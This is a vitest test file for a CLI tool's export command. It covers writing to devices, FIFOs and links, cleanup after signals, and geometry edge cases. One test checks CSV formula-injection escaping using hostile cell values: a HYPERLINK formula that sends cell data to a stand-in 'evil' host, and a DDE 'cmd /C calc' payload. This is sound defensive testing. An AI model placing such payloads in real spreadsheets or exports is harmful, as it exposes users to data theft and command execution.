import { spawnSync } from 'node:child_process';
import { createReadStream } from 'node:fs';
import { link, lstat, mkdtemp, readdir, readFile, rm, stat, symlink, writeFile, chmod } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import Database from 'better-sqlite3';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestDbUrl, type TestDbUrl } from '../helpers/db.js';
import { runBuiltCli, spawnBuiltCli } from '../helpers/built-cli.js';
import { HOSTILE_NAMES, hasGdal, ogrinfo, seedExportDb, STOPS } from './seed.js';

/** Issue 29, points 6-8: what `efa-sync export` does to the place it writes, to CSV cells, and to odd tables. */
describe('efa-sync export: files written', { timeout: 300_000 }, () => {
  let target: TestDbUrl;
  let dir: string;
  const cli = (args: readonly string[], env: NodeJS.ProcessEnv = {}) => runBuiltCli(['export', '--db', target.url, '--log-format', 'json', ...args], env);
  const temps = async (): Promise<string[]> => (await readdir(dir)).filter((f) => f.endsWith('.tmp') || f.endsWith('.features'));

  beforeAll(async () => {
    target = await createTestDbUrl();
    await seedExportDb(target.url);
    dir = await mkdtemp(join(tmpdir(), 'efa-export-files-'));
  });
  afterAll(async () => {
    await rm(dir, { recursive: true, force: true });
    await target.drop();
  });

  // The machine's own /dev/null and /dev/full are not put at risk (the old code renamed over them):
  // the same devices (1,3 and 1,7) are made in the test's folder, where root may make them.
  const device = (name: string, minor: number): string | undefined => {
    const path = join(dir, name);
    return spawnSync('mknod', [path, 'c', '1', String(minor)]).status === 0 ? path : undefined;
  };

  it('writes to a character device in place (csv, fgb, parquet) and leaves it one; refuses gpkg there with the reason', async (ctx) => {
    const nullDevice = device('null', 3);
    if (!nullDevice) return ctx.skip();
    for (const format of ['csv', 'fgb', 'parquet']) {
      const r = await cli(['--relation', 'current_stops', '--out', nullDevice, '--format', format]);
      expect(r.code, r.stderr).toBe(0);
      expect((await lstat(nullDevice)).isCharacterDevice()).toBe(true);
    }
    const gpkg = await cli(['--relation', 'current_stops', '--out', nullDevice, '--format', 'gpkg']);
    expect(gpkg.code).toBe(2);
    expect(gpkg.stderr).toContain(`--out ${nullDevice}`);
    expect(gpkg.stderr).toContain('cannot be streamed');
    expect((await lstat(nullDevice)).isCharacterDevice()).toBe(true);
    const fullDevice = device('full', 7);
    if (!fullDevice) return;
    const full = await cli(['--relation', 'current_stops', '--out', fullDevice, '--format', 'csv']);
    expect(full.code).not.toBe(0);
    expect(full.stderr).toContain('no space left');
    expect((await lstat(fullDevice)).isCharacterDevice()).toBe(true);
    expect(await temps()).toEqual([]);
  });

  it('--out - and /dev/stdout write the CSV to standard output; a FIFO is written in place', async () => {
    for (const out of ['-', '/dev/stdout']) {
      const r = await cli(['--relation', 'current_stops', '--out', out, '--format', 'csv']);
      expect(r.code, r.stderr).toBe(0);
      const lines = r.stdout.trimEnd().split('\r\n');
      expect(lines).toHaveLength(STOPS + 1);
      expect(lines[0]).toContain('fid,');
    }
    const fifo = join(dir, 'fifo.csv');
    expect(spawnSync('mkfifo', [fifo]).status).toBe(0);
    let read = '';
    const reader = new Promise<void>((resolve, reject) => {
      createReadStream(fifo, 'utf8').on('data', (d) => (read += String(d))).on('end', resolve).on('error', reject);
    });
    const r = await cli(['--relation', 'current_stops', '--out', fifo]);
    await reader;
    expect(r.code, r.stderr).toBe(0);
    expect(read.trimEnd().split('\r\n')).toHaveLength(STOPS + 1);
    expect((await lstat(fifo)).isFIFO()).toBe(true);
  });

  it('keeps an existing file mode 0600, its hard links, and a symbolic link as a link', async () => {
    const real = join(dir, 'real.csv');
    await writeFile(real, 'old\n');
    await chmod(real, 0o600);
    const hard = join(dir, 'hard.csv');
    await link(real, hard);
    const soft = join(dir, 'soft.csv');
    await symlink(real, soft);
    const r = await cli(['--relation', 'current_stops', '--out', soft]);
    expect(r.code, r.stderr).toBe(0);
    expect((await lstat(soft)).isSymbolicLink()).toBe(true);
    expect((await stat(real)).mode & 0o777).toBe(0o600);
    expect((await stat(real)).nlink).toBe(2);
    expect((await readFile(hard, 'utf8')).split('\r\n')).toHaveLength(STOPS + 2);
    // A plain 0600 file without other links: replaced by rename, still 0600.
    const lone = join(dir, 'lone.gpkg');
    await writeFile(lone, '');
    await chmod(lone, 0o600);
    expect((await cli(['--relation', 'current_stops', '--out', lone])).code).toBe(0);
    expect((await stat(lone)).mode & 0o777).toBe(0o600);
    expect(await temps()).toEqual([]);
  });

  it('refuses a directory and a link to nothing with a message naming --out, not a raw EISDIR on the temp file', async () => {
    const r = await cli(['--relation', 'current_stops', '--out', dir, '--format', 'csv']);
    expect(r.code).toBe(2);
    expect(r.stderr).toContain(`--out ${dir}: a directory`);
    expect(r.stderr).not.toContain('EISDIR');
    const dangling = join(dir, 'dangling.csv');
    await symlink(join(dir, 'nowhere.csv'), dangling);
    const d = await cli(['--relation', 'current_stops', '--out', dangling]);
    expect(d.code).toBe(2);
    expect(d.stderr).toContain('a symbolic link to nothing');
    expect(await temps()).toEqual([]);
  });

  for (const signal of ['SIGTERM', 'SIGINT'] as const) {
    it(`${signal} during an export removes the temporary file and exits ${signal === 'SIGTERM' ? 143 : 130}`, async () => {
      const out = join(dir, `slow-${signal}.csv`);
      // 400 batches, each followed by 50 ms at the export-batch failpoint: the export writes for 20 s
      // whatever the database buffers (PGlite reads a cursor whole), and the signal lands mid-way.
      const child = spawnBuiltCli(['export', '--db', target.url, '--relation', 'op_slow', '--out', out, '--batch-size', '10'], { EFA_SYNC_FAILPOINT: 'export-batch:50ms' });
      child.stdin.end();
      let stderr = '';
      child.stderr.on('data', (d: Buffer) => (stderr += d.toString()));
      const exited = new Promise<number | null>((resolve) => child.on('close', (code) => resolve(code)));
      for (let i = 0; i < 600 && (await temps()).length === 0; i++) await new Promise((r) => setTimeout(r, 100));
      expect(await temps()).toHaveLength(1);
      child.kill(signal);
      expect(await exited, stderr).toBe(signal === 'SIGTERM' ? 143 : 130);
      expect(stderr).toContain(`stopped by ${signal}`);
      expect(await temps()).toEqual([]);
      await expect(stat(out)).rejects.toThrow();
    });
  }

  it('prefixes formula-like text cells with a quote, leaves negative numbers alone; --csv-raw and EFA_CSV_RAW write them raw', async () => {
    const out = join(dir, 'hostile.csv');
    const r = await cli(['--relation', 'current_stops', '--out', out]);
    expect(r.code, r.stderr).toBe(0);
    expect(r.stderr).toContain('3 text cell(s)');
    const text = await readFile(out, 'utf8');
    for (const name of HOSTILE_NAMES) {
      expect(text).not.toMatch(new RegExp(`(^|,|")${name.slice(0, 6).replace(/[+()|]/g, '\\$&')}`, 'm'));
    }
    expect(text).toContain(`"'=HYPERLINK(""http://evil/?""&A1,""x"")"`);
    expect(text).toContain(`'+cmd|' /C calc'!A0`);
    const mixed = join(dir, 'mixed.csv');
    expect((await cli(['--relation', 'op_mixed', '--out', mixed])).code).toBe(0);
    // label is text ('-minus' prefixed); delta is a number column: -5 stays -5.
    expect((await readFile(mixed, 'utf8')).split('\r\n')[1]).toMatch(/^1,'-minus,-5,/);
    const raw = join(dir, 'raw.csv');
    expect((await cli(['--relation', 'current_stops', '--out', raw, '--csv-raw'])).code).toBe(0);
    expect(await readFile(raw, 'utf8')).toContain(`,"=HYPERLINK(""http://evil/?""&A1,""x"")",`);
    const env = join(dir, 'env.csv');
    expect((await cli(['--relation', 'current_stops', '--out', env], { EFA_CSV_RAW: '1' })).code).toBe(0);
    expect(await readFile(env, 'utf8')).toContain(`,+cmd|' /C calc'!A0,`);
  });

  it('writes an EMPTY geometry as NULL: the GeoPackage extent leaves out 0,0 and GDAL reads the FlatGeobuf', async () => {
    const gpkgOut = join(dir, 'mixed.gpkg');
    const r = await cli(['--relation', 'op_mixed', '--out', gpkgOut]);
    expect(r.code, r.stderr).toBe(0);
    const gpkg = new Database(gpkgOut, { readonly: true });
    try {
      expect(gpkg.prepare('SELECT min_x, min_y, max_x, max_y FROM gpkg_contents WHERE table_name = ?').get('op_mixed')).toEqual({ min_x: 9, min_y: 48, max_x: 9.5, max_y: 48.5 });
      expect(gpkg.prepare('SELECT geom FROM op_mixed WHERE id = 1').get()).toEqual({ geom: null });
    } finally {
      gpkg.close();
    }
    const fgbOut = join(dir, 'mixed.fgb');
    expect((await cli(['--relation', 'op_mixed', '--out', fgbOut])).code).toBe(0);
    if (hasGdal) {
      const info = await ogrinfo(fgbOut, '-so', '-al');
      expect(info).toContain('Feature Count: 3');
      expect(info).not.toMatch(/ERROR/);
      const features = await ogrinfo(fgbOut, '-al', '-q');
      expect(features).toContain('POINT (9.5 48.5)');
      expect(features).not.toMatch(/ERROR/);
    }
  });

  it('writes infinite times as NULL with a warning naming the column', async () => {
    const out = join(dir, 'inf.parquet');
    const r = await cli(['--relation', 'op_mixed', '--out', out]);
    expect(r.code, r.stderr).toBe(0);
    expect(r.stderr).toContain('efa.op_mixed.valid_until: 1 infinite value(s)');
    expect(r.stderr).toContain('efa.op_mixed.day: 1 infinite value(s)');
  });

  it('transforms a column in EPSG:3857 to 4326 (not relabelled), and refuses geometries without an SRID', async () => {
    const out = join(dir, 'merc.gpkg');
    const r = await cli(['--relation', 'op_merc', '--out', out, '--json']);
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout).toContain('transformed from EPSG:3857');
    const gpkg = new Database(out, { readonly: true });
    try {
      const geom = (gpkg.prepare('SELECT geom FROM op_merc').get() as { geom: Buffer }).geom;
      expect(geom.readInt32LE(4)).toBe(4326);
      expect(geom.readDoubleLE(8 + 5)).toBeCloseTo(9.18, 9);
      expect(geom.readDoubleLE(8 + 13)).toBeCloseTo(48.78, 9);
    } finally {
      gpkg.close();
    }
    const none = await cli(['--relation', 'op_nosrid', '--out', join(dir, 'nosrid.gpkg')]);
    expect(none.code).toBe(2);
    expect(none.stderr).toContain('efa.op_nosrid.geom holds geometries without an SRID');
  });
});
